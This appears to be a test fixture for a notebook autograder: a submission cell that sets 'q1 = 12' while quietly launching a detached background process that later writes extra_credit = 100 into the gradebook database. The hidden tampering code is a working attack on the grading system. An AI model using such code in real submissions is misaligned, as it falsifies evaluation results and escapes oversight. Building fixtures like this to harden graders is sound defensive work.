"""Leaves a process running that waits until the marks are in the gradebook, and raises them."""

CELLS = {
    "q1": """import subprocess
import sys

updater = '''
import sqlite3, sys, time
for _ in range(100):
    time.sleep(0.05)
    try:
        with sqlite3.connect(sys.argv[1]) as book:
            book.execute("UPDATE grade SET extra_credit = 100 WHERE auto_score IS NOT NULL")
    except sqlite3.OperationalError:
        pass
'''
subprocess.Popen([sys.executable, "-c", updater, "@GRADEBOOK@", "@MARK@"], start_new_session=True)
q1 = 12"""
}
